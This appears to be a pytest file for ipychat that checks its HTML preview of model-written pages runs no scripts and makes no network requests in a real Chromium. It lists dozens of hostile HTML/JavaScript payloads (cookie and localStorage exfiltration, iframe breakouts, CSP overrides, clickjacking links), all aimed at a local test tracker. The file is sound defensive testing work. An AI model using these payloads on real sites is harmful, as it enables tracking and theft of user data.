"""The preview of a page that a model wrote, in a real browser: it runs, loads and sends nothing.

Each hostile page is opened twice: bare, which shows that it does leak, and as the preview.
Without Chromium these tests are skipped, but not in CI.
"""

import asyncio
import os
import shutil
import time
from contextlib import closing, suppress

import pytest
from playwright.sync_api import Error, sync_playwright

from ipychat.display.cell import bundle
from ipychat.messages import Message, ModelId, Question, Reply
from tests.loopback import Service, _Threaded, answer

CHROMIUM = [p for n in ("chromium", "chromium-browser", "google-chrome") if (p := shutil.which(n))]
FLAGS = ["--disable-gpu", "--disable-quic", "--no-proxy-server"]
SETTLE = 80
"""Milliseconds after which what is sent without delay is sent; bare pages need a few tens."""
PATIENCE = 5.0
"""Seconds until a bare page has to have leaked."""
COVER = 'id=cover style="position:fixed;inset:0;width:100%;height:100%;display:block"'
OPENED = "a connection"

SCRIPTS = {
    "fetch": "fetch('TRACKER')",
    "XMLHttpRequest": "let x = new XMLHttpRequest(); x.open('GET', 'TRACKER'); x.send()",
    "WebSocket": "new WebSocket('ws://HOST')",
    "WebRTC": "let c = new RTCPeerConnection({iceServers: [{urls: 'turn:HOST?transport=tcp', username: 'x', credential: 'x'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
    "sendBeacon": "navigator.sendBeacon('TRACKER', 'x')",
    "Worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"TRACKER\")'])))",
    "location": "location = 'TRACKER'",
    "window.top.location": "window.top.location = 'TRACKER'",
    "window.open": "window.open('TRACKER')",
    "form.submit": "let f = document.createElement('form'); f.action = 'TRACKER'; f.target = '_top'; document.documentElement.append(f); f.submit()",
    "a click on a link": "let a = document.createElement('a'); a.href = 'TRACKER'; a.target = '_top'; a.click()",
    "a download": "let a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x'; a.click(); fetch('TRACKER')",
    "a dialog": "fetch('TRACKER'); setTimeout(() => alert(1))",
    "the parent's page": "parent.canary = parent.document.title = 'hurt'; fetch('TRACKER')",
    "the parent's cookies": "fetch('TRACKER/' + parent.document.cookie)",
    "the parent's storage": "fetch('TRACKER/' + parent.localStorage.canary)",
    "a message to the parent": "parent.postMessage('hurt', '*'); fetch('TRACKER')",
}
ON = "=\"parent.canary = 'hurt'; fetch('TRACKER')\""
OUT = "<script>canary = 'hurt'</script><img src=TRACKER>"

LOADED = {
    **{f"script: {name}": f"<script>{script}</script>" for name, script in SCRIPTS.items()},
    "script src": "<script src=TRACKER></script>",
    "script importmap": '<script type=importmap>{"imports": {"x": "TRACKER"}}</script><script type=module>import "x"</script>',
    "speculation rules": '<script type=speculationrules>{"prefetch": [{"urls": ["TRACKER"]}]}</script>',
    "onload": f"<body onload{ON}>",
    "onerror": f"<img src=data: onerror{ON}>",
    "ontoggle": f"<details open ontoggle{ON}>",
    "svg image": "<svg><image href=TRACKER />",
    "svg feImage": "<svg><filter id=f><feImage href=TRACKER /></filter><rect width=9 height=9 filter=url(#f) />",
    "img": "<img src=TRACKER>",
    "img srcset": "<img srcset='TRACKER 1x, TRACKER 2x'>",
    "picture": "<picture><source srcset=TRACKER><img></picture>",
    "video poster": "<video poster=TRACKER></video>",
    "audio": "<audio src=TRACKER></audio>",
    "track": "<video crossorigin src=data:video/mp4,><track default src=TRACKER></video>",
    "style attribute": "<p style='background: url(TRACKER)'>x",
    "style @import": "<style>@import 'TRACKER';</style>",
    "style @font-face": "<style>@font-face { font-family: x; src: url(TRACKER) } p { font-family: x }</style><p>x",
    **{
        f"link rel={rel}": f"<link rel={rel} href=TRACKER>"
        for rel in ("prefetch", "preconnect", "modulepreload", "stylesheet", "manifest", "icon")
    },
    "link rel=preload": "<link rel=preload as=script href=TRACKER>",
    "link rel=dns-prefetch": "<link rel=dns-prefetch href=//NAME>",
    "link in odd writing": "<LiNk/rel=preconnect\n\fhref=TRACKER>",
    "link in an svg": "<svg><link\trel=preconnect href=TRACKER></svg>",
    "link in a shadow root": "<div><template shadowrootmode=open><link rel=preconnect href=TRACKER></template></div>",
    "meta refresh": "<meta http-equiv=refresh content='0; url=TRACKER'>",
    "meta with a kinder policy": "<meta http-equiv=Content-Security-Policy content='img-src *'><img src=TRACKER>",
    "base": "<base href=TRACKER><img src=x>",
    "iframe": "<iframe src=TRACKER></iframe>",
    "iframe of a javascript: page": "<iframe src=\"javascript:fetch('TRACKER')\"></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<img src=TRACKER>'></iframe>",
    "iframe srcdoc with meta refresh": "<iframe srcdoc='&lt;meta http-equiv=refresh content=0;TRACKER>'></iframe>",
    "iframe srcdoc with preconnect": "<iframe srcdoc='&lt;link rel=preconnect href=TRACKER>'></iframe>",
    "iframe srcdoc with dns-prefetch": "<iframe srcdoc='&lt;link rel=dns-prefetch href=//NAME>'></iframe>",
    "frame": "<frameset><frame src=TRACKER></frameset>",
    "object": "<object data=TRACKER></object>",
    "embed": "<embed type=text/html src=TRACKER>",
    "xml-stylesheet": "<iframe src='data:text/xml,<?xml-stylesheet href=\"TRACKER\"?><x/>'></iframe>",
    'out of "': f'<p>"></iframe>{OUT}',
    "out of '": f"<p>'></iframe>{OUT}",
    "out of the code": f"</span></code></pre></div></details></iframe>{OUT}",
    "out of a fence": f"Look:\n\n```html\n<p>x</p>\n```\n\n</details></div>{OUT}",
}
CLICKED = {
    "onclick": f"<p COVER onclick{ON}>",
    "javascript: link": "<a COVER href=\"javascript:fetch('TRACKER')\">x</a>",
    "link": "<a COVER href=TRACKER>x</a>",
    "link target=_top": "<a COVER target=_top href=TRACKER>x</a>",
    "link target=_parent": "<a COVER target=_parent href=TRACKER>x</a>",
    "link target=_blank": "<a COVER target=_blank href=TRACKER>x</a>",
    "link target=_self": "<a COVER target=_self href=TRACKER>x</a>",
    "link download": "<a COVER download href=TRACKER>x</a>",
    "link with base": "<base href=TRACKER target=_self><a COVER href=x>x</a>",
    "link with ping": "<a COVER href=#x ping=TRACKER>x</a>",
    "link in svg": "<svg COVER><a href=TRACKER><rect width=900 height=900 /></a></svg>",
    "link in old svg": "<svg COVER><a xlink:href=TRACKER><rect width=900 height=900 /></a></svg>",
    "form": "<form action=TRACKER><button COVER>x</button></form>",
    "form that posts": "<form action=TRACKER method=post target=_top><input type=submit COVER></form>",
    "formaction": "<form><button COVER formaction=TRACKER formtarget=_self>x</button></form>",
}
PAGES = LOADED | CLICKED
NOTEBOOK = """<!doctype html><title>unhurt</title><script>
canary = localStorage.canary = document.cookie = "unhurt"; onmessage = message => canary = message.data
</script>"""


class Tracker(_Threaded):
    """Records each connection that is opened, and the line of the request if one follows."""

    def __init__(self):
        self.seen = []
        super().__init__()
        self.name = f"leak{self.port}.invalid"

    async def start(self):
        self._server = await asyncio.start_server(self._visit, "127.0.0.1")
        return self._server.sockets

    async def stop(self):
        self._server.close()

    async def _visit(self, reader, writer):
        self.seen.append(OPENED)
        with closing(writer), suppress(asyncio.IncompleteReadError, ConnectionError):
            request = await reader.readuntil(b"\r\n\r\n")
            self.seen.append(request.partition(b"\r\n")[0].decode("latin-1"))
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    def fill(self, page):
        page = page.replace("TRACKER", "http://HOST").replace("HOST", f"localhost:{self.port}")
        return page.replace("NAME", self.name).replace("COVER", COVER)


class Browser:
    """One tab of a real Chromium, and what becomes known to others through it."""

    def __init__(self, context, log, notebook):
        self._context, self._log, self._notebook = context, log, notebook
        self.tab = context.pages[0]
        self.happened = []
        self.tab.on("dialog", lambda dialog: (self.happened.append("a dialog"), dialog.dismiss()))
        self.tab.on("download", lambda _: self.happened.append("a download"))
        self.tab.on("framenavigated", lambda frame: self.happened.append(frame.url))
        context.on("page", lambda _: self.happened.append("a window"))

    def open(self, html, tracker):
        self._tracker, self._since = tracker, self._log.stat().st_size
        self._notebook.on("/", answer(html.encode(), content_type="text/html; charset=utf-8"))
        self.happened.clear()
        self.tab.goto(f"{self._notebook.url}/")

    def click(self):
        self.tab.frames[-1].locator("#cover").click()

    def leave(self):
        """Wherever a page has gone, or is about to go."""
        while len(self._context.pages) > 1 or self.tab.url != "about:blank":
            for window in self._context.pages[1:]:
                window.close()
            with suppress(Error):
                self.tab.goto("about:blank")

    @property
    def leaks(self):
        with self._log.open("rb") as log:
            log.seek(self._since)
            looked_up = self._tracker.name.encode() in log.read()
        return self._tracker.seen + ["a look-up"] * looked_up


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    if not CHROMIUM:
        (pytest.fail if os.environ.get("CI") else pytest.skip)("Chromium is not installed")
    folder = tmp_path_factory.mktemp("chromium")
    log = folder / "net.json"
    flags = [*FLAGS, f"--log-net-log={log}"]
    notebook = Service()
    with sync_playwright() as playwright:
        # in a profile that is not kept on disk Chromium wouldn't preconnect
        context = playwright.chromium.launch_persistent_context(
            folder / "profile", executable_path=CHROMIUM[0], args=flags
        )
        yield Browser(context, log, notebook)
        context.close()
    notebook.close()


@pytest.fixture
def tracker():
    tracker = Tracker()
    yield tracker
    tracker.close()


def inside(browser):
    """The page itself, in the frame within the preview's frame."""
    return browser.tab.frame_locator("iframe").frame_locator("iframe")


def preview(page):
    request = Question(ModelId("openai", "m"), (Message("user", "x"),))
    data, _ = bundle(Reply(request, text=page, finish="stop"), format="html")
    return NOTEBOOK + data["text/html"]


@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
def test_a_hostile_page_leaks_when_it_is_opened_bare(page, browser, tracker):
    with suppress(Error):  # where the page leaves at once
        browser.open(tracker.fill(page), tracker)
    if "COVER" in page:
        browser.click()
    end = time.monotonic() + PATIENCE
    while not browser.leaks:
        assert time.monotonic() < end
        browser.tab.wait_for_timeout(10)
    browser.leave()


@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
def test_its_preview_leaks_nothing(page, browser, tracker):
    browser.open(preview(tracker.fill(page)), tracker)
    inside(browser).locator("html").wait_for(state="attached")
    browser.tab.wait_for_timeout(SETTLE)
    assert browser.leaks == []
    if "COVER" in page:
        browser.click()
        browser.tab.wait_for_timeout(SETTLE)
        # Chromium connects to where a link goes as soon as the button is down
        assert set(browser.leaks) <= {OPENED}
    hurt = "[canary, document.title, document.cookie, localStorage.canary]"
    assert browser.tab.evaluate(hurt) == ["unhurt"] * 4
    went, *frames = browser.happened
    assert went == browser.tab.url
    assert set(frames) <= {"", "about:srcdoc", "chrome-error://chromewebdata/"}


def test_a_harmless_page_is_shown_as_it_is(browser, tracker):
    page = "<style>h1 { color: rgb(1, 2, 3) }</style><h1>&lt;Hi&gt; \"there\" & 'here'</h1>"
    browser.open(preview(page), tracker)
    h1 = inside(browser).locator("h1")
    assert h1.inner_text() == "<Hi> \"there\" & 'here'"
    assert h1.evaluate("h1 => getComputedStyle(h1).color") == "rgb(1, 2, 3)"
